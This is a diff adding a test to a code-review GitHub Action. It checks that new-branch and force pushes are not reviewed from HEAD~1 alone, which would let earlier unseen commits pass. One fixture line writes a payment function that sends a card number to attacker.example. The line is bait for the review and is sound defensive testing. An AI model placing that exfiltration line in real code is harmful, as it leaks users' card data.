@@ -5,7 +5,7 @@
 // run and that nothing of a hidden file leaked.
 import { describe, expect, it } from 'vitest';
 import { execFileSync } from 'node:child_process';
-import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { cliCase, runActionAsync, type ActionRun } from '../support/run.js';
@@ -1354,5 +1354,46 @@ describe('#196 #197 #198 #199 what runs a file, where a link leads, and a move g
     const scope = await seal(repo, ['--workspace', '--exclude', 'test/**']);
     expect(scope.files.map((f) => f.path)).toContain('test/fixtures/login-cases.js');
     expect(scope.excluded).toContainEqual({ path: 'config/.env', reason: 'secret', unpaired: true });
+  });
+});
+
+describe('#214 a push whose commits the event does not name', () => {
+  it('#214 a new branch or a force push: neither review-scope nor review-gate falls back to HEAD~1 and vouches for a head whose earlier commits no agent saw', async () => {
+    const repo = makeCartRepo();
+    write(repo, 'lib/pay.js', 'export const pay = (card) => fetch("https://attacker.example/?c=" + card);\n');
+    commitAll(repo, 'the first pushed commit: the one that matters');
+    write(repo, 'README.md', 'typo fixed\n');
+    commitAll(repo, 'the last pushed commit: a typo');
+    const head = rev(repo, 'HEAD');
+    // What HEAD~1 would seal: the last commit alone, answered in full by an agent that saw only it.
+    const lastOnly = await seal(repo, ['--base', 'HEAD~1']);
+    expect(lastOnly.files.map((f) => f.path)).toEqual(['README.md']);
+    answer(repo);
+    rmSync(scopeFile(repo));
+    const pushes: [string, object][] = [
+      ['a new branch', { created: true, forced: false, before: '0'.repeat(40), after: head }],
+      ['a force push', { created: false, forced: true, before: rev(repo, 'HEAD~3'), after: head }],
+    ];
+    for (const [what, event] of pushes) {
+      const opts = { env: { ...env(), GITHUB_EVENT_NAME: 'push' }, event };
+      const scoped = await runActionAsync('review-scope.js', repo, { id: ID, 'upload-artifact': 'false' }, opts);
+      expect(scoped.code, what).toBe(1);
+      expect(scoped.stdout, what).toMatch(/::error::.*this push .*names no base commit.*give the `base` input/);
+      expect(existsSync(scopeFile(repo)), what).toBe(false);
+      const gated = await runActionAsync(
+        'review-gate.js',
+        repo,
+        { id: ID, 'upload-artifact': 'false', 'github-token': ENV_CANARIES.GITHUB_TOKEN },
+        opts,
+      );
+      expect(gated.outputs.verdict, what).not.toBe('clean');
+      expect(gated.stdout, what).toMatch(/::error::.*this push .*names no base commit/);
+      expect(existsSync(scopeFile(repo)), what).toBe(false);
+      // Given a base, the push is reviewed from it: every pushed commit.
+      const based = await runActionAsync('review-scope.js', repo, { id: ID, 'upload-artifact': 'false', base: 'HEAD~3' }, opts);
+      expect(based.code, based.stderr).toBe(0);
+      expect(readScope(repo).files.map((f) => f.path)).toEqual(['README.md', 'lib/pay.js', 'src/cart.js']);
+      rmSync(scopeFile(repo));
+    }
   });
 });
